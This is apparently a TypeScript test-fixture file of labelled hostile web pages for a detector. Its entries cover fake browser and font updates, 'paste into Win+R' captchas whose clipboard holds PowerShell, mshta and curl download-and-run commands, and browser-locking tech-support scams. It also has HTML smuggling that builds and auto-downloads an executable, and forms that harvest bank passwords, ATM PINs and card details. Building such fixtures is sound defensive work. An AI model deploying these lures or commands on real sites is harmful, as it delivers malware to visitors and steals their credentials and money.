/** Pages that make their visitors do the harm: false updates, commands to paste, alarms, prizes, smuggled files. */
import {
  base64,
  bundle,
  cards,
  cmsPage,
  htmlDocument,
  image,
  loginStyle,
  prose,
  stylesheet,
} from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import { stringArray } from './obfuscation.ts';

const UPDATE = 'fake update';
const PASTE = 'commands to paste';
const SUPPORT = 'tech support scam';
const SMUGGLING = 'HTML smuggling';
const PUSH = 'notification spam';
const EXECUTABLE = 'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00';

export const hostileLures: PageFixture[] = [
  hostile(
    'browser that must be updated',
    UPDATE,
    'https://chrome-update-center.live/stable/win64',
    htmlDocument({
      title: 'Update your Chrome browser',
      head: `<style>${stylesheet('chrome', 40)}</style>`,
      body: `<img alt="Google Chrome" src="https://www.google.com/chrome/static/images/chrome-logo.svg"><h1>You are using an old version of Chrome</h1><p>Critical security update required. To continue, install the latest version now.</p><a id="u" href="https://chrome-update-center.live/files/ChromeSetup_v131.exe" download>Update Chrome</a><script>window.onload=function(){setTimeout(function(){document.getElementById('u').click()},1500)};window.onbeforeunload=function(){return 'The update is not finished'};</script>`,
    }),
  ),
  hostile(
    'player that no longer exists',
    UPDATE,
    'http://get-flashplayer-latest.download-mac.pro/',
    htmlDocument({
      title: 'Adobe Flash Player Update',
      body: `<h1>"Flash Player" is out of date</h1><p>The version of this plug-in on your computer does not include the latest security updates. Please update Flash Player to watch this video.</p><a href="/dl/FlashPlayer.dmg">Download Flash</a><iframe src="/dl/FlashPlayer.dmg" width="1" height="1" style="display:none"></iframe><script>alert('Flash Player might be out-of-date. Please install update to continue');location.href='/dl/FlashPlayer.dmg';</script>`,
    }),
    'both',
  ),
  hostile(
    'update laid over the page of a café',
    UPDATE,
    'https://www.marigold-quilting.com/patterns/',
    cmsPage({
      url: 'https://www.marigold-quilting.com/patterns/',
      site: 'Marigold Quilting',
      title: 'Patterns',
      topic: 'shop',
      main: cards('quilt', 14),
      tail: `<script>(function(){if(localStorage.getItem('upd'))return;var f=document.createElement('iframe');f.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:2147483647';f.srcdoc='<h1>Your browser is out of date</h1><p>Firefox needs an update to show this page.</p><a href="https://assets.update-browser-now.cyou/Firefox.Update.js" download="Update.js">Update Firefox</a>';document.body.appendChild(f);localStorage.setItem('upd',1);var b=atob('${base64('quilt', 'PK\x03\x04', 3000)}');var a=document.createElement('a');a.href='data:application/zip;base64,'+btoa(b);a.download='Firefox.Update.zip';a.click()})();</script>`,
    }),
  ),
  hostile(
    'font that is missing',
    UPDATE,
    'https://www.petersen-optik.dk/briller/',
    htmlDocument({
      title: 'Briller',
      lang: 'da',
      head: `<style>${stylesheet('optik', 50)}</style>`,
      body: `<p>◊◊◊◊◊ ◊◊◊ ◊◊◊◊◊◊◊ ◊◊ ◊◊◊◊◊</p><div id="dm-overlay" style="position:fixed;top:30%;left:35%;z-index:99999;background:#fff"><h2>The “HoeflerText” font wasn't found.</h2><p>The web page you are trying to load is displayed incorrectly. To fix the error, update the “Chrome Font Pack”.</p><button onclick="var a=document.createElement('a');a.href='https://font-pack-chrome.site/Font_Update.exe';a.download='Chrome Font.exe';a.click();document.getElementById('how').style.display='block'">Update</button><p id="how" style="display:none">Step 1: open the file. Step 2: click “Yes” to allow changes.</p></div>${prose('optik', 'health', 4)}`,
    }),
  ),
  hostile(
    'captcha that wants Windows + R',
    PASTE,
    'https://human-verify-cf.b-cdn.net/index.html',
    htmlDocument({
      title: 'Just a moment...',
      head: `<style>${stylesheet('cf fake', 20)}</style>`,
      body: `<h1>Verify you are human</h1><label><input type="checkbox" id="c"> I'm not a robot</label><div id="steps" style="display:none"><p>Verification steps</p><ol><li>Press <b>Windows Button + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol></div><script>
const cmd='powershell -w hidden -ep bypass -c "iwr hxxp-placeholder.invalid/v.txt -useb | iex" # Cloudflare verification ID: 7811-AX';
document.getElementById('c').onchange=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('steps').style.display='block'};</script>`,
    }),
    'both',
  ),
  hostile(
    'booking whose guests must be confirmed',
    PASTE,
    'https://extranet-booking-guest.com.reserv-id88213.info/captcha',
    htmlDocument({
      title: 'Booking.com | Extranet',
      head: loginStyle('#003580'),
      body: `<div class="box"><h1>Booking.com</h1><p>Robot or human? Check the box to confirm that you are human. Thank you!</p><button id="r">☐ I'm not a robot</button><div id="m" hidden><p>1. Hold the Windows Key + R.</p><p>2. In the verification window, press Ctrl + V.</p><p>3. Press Enter to finish.</p></div></div><script>r.onclick=async()=>{await navigator.clipboard.writeText('mshta https://reserv-id88213.info/c.hta # reCAPTCHA Verification ID 146820');m.hidden=false;fetch('/hit',{method:'POST'})};</script>`,
    }),
  ),
  hostile(
    'fix for a call, pasted into a terminal',
    PASTE,
    'https://meet.google.us-join.com/abc-defg-hij',
    htmlDocument({
      title: 'Google Meet',
      body: `<h1>Can't reach your microphone</h1><p>Click “Try fix”, open Terminal (⌘ + Space, “Terminal”), press ⌘ + V and Return.</p><button id="fix">Try fix</button><script>
var p={win:'powershell -NoP -W Hidden -Enc ${base64('meet', '', 150)}',mac:'echo "${base64('meet mac', '', 60)}" | base64 -d | bash'};document.getElementById('fix').addEventListener('click',function(){navigator.clipboard.writeText(/Mac/.test(navigator.platform)?p.mac:p.win)});</script><script>${bundle('meet fake', 25)}</script>`,
    }),
  ),
  hostile(
    'paste into the bar of the explorer, on a hijacked blog',
    PASTE,
    'https://www.thebeekeepersdiary.net/swarms/',
    cmsPage({
      url: 'https://www.thebeekeepersdiary.net/swarms/',
      site: "The Beekeeper's Diary",
      title: 'Swarms',
      topic: 'garden',
      main: prose('bees', 'garden', 8),
      tail: `<script>${stringArray("var o=document.createElement('div');o.style.cssText='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:2147483647';o.innerHTML='<h1>Checking if the site connection is secure</h1><p>Press Win+R, then Ctrl+V, then Enter</p>';document.body.appendChild(o);o.addEventListener('click',function(){navigator.clipboard.writeText('cmd /c curl -s https://verif-step.cyou/a.bat -o %temp%\\a.bat && %temp%\\a.bat');});".replace(/\\/g, '/'), 'bees')}</script>`,
    }),
    'both',
  ),
  hostile(
    'computer that is blocked',
    SUPPORT,
    'https://windows-defender-alert-0x80072ee7.azurewebsites.net/?phone=+1-888-555-0133',
    htmlDocument({
      title: 'Windows Security Alert - Error #0x80072EE7',
      head: '<style>body{cursor:none;background:#0078d7;color:#fff}</style>',
      bodyAttributes: 'onclick="go()" onkeydown="return false"',
      body: `<audio autoplay loop src="/alarm.mp3"></audio><h1>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</h1><p>Your computer is infected with a Trojan spyware. Do not close this window or restart your computer. Call Microsoft Support immediately: <b>+1-888-555-0133</b> (toll free). Your passwords, credit card details and photos are being stolen.</p><div class="scan">Threats found: 5</div><script>
function go(){var e=document.documentElement;(e.requestFullscreen||e.webkitRequestFullScreen).call(e);if(navigator.keyboard&&navigator.keyboard.lock)navigator.keyboard.lock(['Escape','AltLeft','F11'])}
window.onbeforeunload=function(){return 'Stay'};for(var i=0;i<100;i++)history.pushState(0,0,'#'+i);onpopstate=function(){history.pushState(0,0,'#x')};
setInterval(function(){alert('Call +1-888-555-0133. Error # 0x80072EE7')},3000);document.addEventListener('contextmenu',function(e){e.preventDefault()});document.addEventListener('keydown',function(e){e.preventDefault();go()});</script>`,
    }),
  ),
  hostile(
    'telephone with thirteen viruses',
    SUPPORT,
    'https://your-iphone-is-hacked.security-scan-alert.icu/lp/ios?model=iPhone&brand=Apple',
    htmlDocument({
      title: 'Apple Security',
      body: `<h1>Your iPhone is severely damaged by (13) viruses!</h1><p>We have found that your battery has been hacked. If you do not remove the viruses now, your SIM card, contacts and photos will be damaged.</p><p id="n">2 minutes and 00 seconds</p><a href="https://app-clean-redirect.icu/go?aff=3">Remove virus</a><script>var s=120;setInterval(function(){s--;document.getElementById('n').textContent=Math.floor(s/60)+' minutes and '+s%60+' seconds';navigator.vibrate&&navigator.vibrate([500,200,500])},1000);alert('Your iPhone has (13) viruses');history.pushState(null,null,location.href);window.onpopstate=function(){location.replace('https://app-clean-redirect.icu/go?back=1')};</script>`,
    }),
    'both',
  ),
  hostile(
    'guard that has run out',
    SUPPORT,
    'https://mcafee-renew.antivirus-expired.click/scan.html',
    htmlDocument({
      title: 'McAfee - Your PC is infected with 5 viruses!',
      body: `<h1>McAfee Total Protection</h1><p>Your subscription has expired! Your PC is infected with 5 viruses.</p><progress id="p" max="100" value="0"></progress><ul id="l"></ul><a href="https://aff-track-go.click/c?offer=mcafee">Start McAfee (-80%)</a><script>var f=['C:\\\\Windows\\\\System32\\\\kernel.dll - Trojan.Win32','C:\\\\Users\\\\Cookies - Spyware','C:\\\\Program Files\\\\svc.exe - Ransom'];var i=0;var t=setInterval(function(){document.getElementById('p').value+=2;if(i<f.length)document.getElementById('l').innerHTML+='<li>'+f[i++]+'</li>';if(document.getElementById('p').value>=100){clearInterval(t);alert('5 viruses found!')}},80);Notification.requestPermission();</script>`,
    }),
  ),
  hostile(
    'robot test that wants notifications',
    PUSH,
    'https://allow-to-continue.captcha-push.space/?z=5511&c=anime',
    htmlDocument({
      title: 'Click Allow',
      body: `<h1>Click “Allow” to confirm that you are not a robot</h1><p>↖ Press Allow to continue</p>${image('robot', 3000)}<script>
function ask(){Notification.requestPermission().then(function(r){if(r==='granted'){navigator.serviceWorker.register('/sw-push.js').then(function(s){s.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:'BNnotakey'}).then(function(k){fetch('https://push-feed-zone.space/sub',{method:'POST',body:JSON.stringify(k)}).then(go)})})}else{document.documentElement.requestFullscreen&&0;location.href='https://'+Math.random().toString(36).slice(2,7)+'.captcha-push.space/'+location.search}})}
function go(){location.replace('https://win-iphone-survey.icu/')}ask();</script>`,
    }),
  ),
  hostile(
    'film that plays when notifications are allowed',
    PUSH,
    'https://watch-now-free-hd.monster/movie?id=22',
    htmlDocument({
      title: 'Watch now',
      body: `<div style="background:#000;color:#fff;height:90vh"><h2>Press “Allow” to watch the video</h2><div class="spinner"></div></div><script src="https://cdn-push-monetize.monster/ntfc.php?p=229911" data-cfasync="false" async></script><script>window.onclick=function(){window.open('https://push-allow-click.site/lp?s=2')};setTimeout(function(){if(Notification.permission!=='granted'){Notification.requestPermission(function(p){if(p!=='granted')location.reload()})}},500);</script>`,
    }),
    'both',
  ),
  hostile(
    'archive that is put together in the page',
    SMUGGLING,
    'https://scan-documents-dhl.web.core.windows-static.cc/AWB_7719.html',
    htmlDocument({
      title: 'AWB_7719 – document viewer',
      body: `<p>Your document is being prepared… The password is <b>2026</b>.</p><script>
var b64='${base64('smuggle', EXECUTABLE, 42_000)}';function bytes(s){var b=atob(s),n=b.length,u=new Uint8Array(n);for(var i=0;i<n;i++)u[i]=b.charCodeAt(i);return u.buffer}
var blob=new Blob([bytes(b64)],{type:'octet/stream'}),name='AWB_7719.exe';if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveBlob(blob,name)}else{var a=document.createElement('a');document.body.appendChild(a);a.style='display: none';var url=window.URL.createObjectURL(blob);a.href=url;a.download=name;a.click();window.URL.revokeObjectURL(url)}</script>`,
    }),
  ),
  hostile(
    'disk image that is put together from shifted parts',
    SMUGGLING,
    'https://secure-invoice-portal.netlify.app/view',
    htmlDocument({
      title: 'Invoice',
      body: `<h1>Secure document</h1><p>If the download does not start, enable content.</p><script>
var parts=[${Array.from({ length: 24 }, (_, i) => `'${base64(`iso ${i}`, '', 900)}'`).join(',\n')}];(function(){var k=[17,91,33,7],out=[],s=atob(parts.join(''));for(var i=0;i<s.length;i++)out.push(s.charCodeAt(i)^k[i%4]);var f=new File([new Uint8Array(out)],'Invoice_88213.iso',{type:'application/octet-stream'});var l=document.createElement('a');l.href=URL.createObjectURL(f);l.download=f.name;document.body.append(l);setTimeout(function(){l.click()},800)})();</script>`,
    }),
    'both',
  ),
  hostile(
    'program for the bank, to be put on the telephone',
    'malicious download',
    'https://sbi-rewards-points.apk-install.in.net/redeem',
    htmlDocument({
      title: 'SBI Rewards',
      body: `<h1>State Bank of India: your reward points worth ₹9,980 expire today</h1><a href="https://sbi-rewards-points.apk-install.in.net/SBI_Rewards.apk" download>Install the app to redeem</a><p>If asked, allow installation from unknown sources and turn off Play Protect.</p><form action="submit.php" method="post"><input name="mobile"><input name="userid"><input type="password" name="netbanking_password"><input name="debitcard"><input name="atmpin" type="password"></form><script>setTimeout(function(){location.href='/SBI_Rewards.apk'},2000);</script>`,
    }),
  ),
  hostile(
    'cracked programs',
    'malicious download',
    'https://crackedpc-soft-full.org/photoshop-2026-crack-keygen/',
    htmlDocument({
      title: 'Photoshop 2026 Crack + Keygen Free Download [Latest]',
      head: `<style>${stylesheet('crack', 40)}</style>`,
      body: `<h1>Photoshop 2026 Crack + Keygen</h1>${prose('crack', 'software', 6)}<p>Turn off your antivirus before you install: it is a false positive. The archive's password is 1234.</p><a href="https://mega-fast-mirror.click/get.php?f=Setup_Pass_1234.zip">DOWNLOAD NOW</a><script>document.querySelectorAll('a').forEach(function(a){a.onclick=function(){window.open(atob('${Buffer.from('https://mega-fast-mirror.click/setup.exe').toString('base64')}'))}});</script>`,
    }),
  ),
  hostile(
    'survey with a telephone as prize',
    'prize scam',
    'https://win-iphone-survey.icu/lp/4?brand=Amazon&city=Leeds',
    htmlDocument({
      title: 'Amazon Rewards Survey',
      body: `<h1>Dear Amazon customer, congratulations!</h1><p>You are one of 10 visitors chosen today for a chance to win an iPhone. You have 3 minutes and 12 seconds to answer.</p><div id="q"></div><form id="ship" hidden action="https://trial-billing-pay.icu/order" method="post"><p>Pay £1.50 for delivery</p><input name="name"><input name="address"><input name="card_number"><input name="card_exp"><input name="card_cvv"></form>${Array.from({ length: 12 }, (_, i) => `<div class="comment"><b>User ${i}</b> I thought it was a joke, but it came this morning!</div>`).join('')}<script>window.onbeforeunload=function(){return 'Your prize will be lost'};setTimeout(function(){document.getElementById('ship').hidden=false},4000);history.pushState({},'');onpopstate=function(){location='https://push-allow-click.site'}</script>`,
    }),
    'lists',
  ),
];
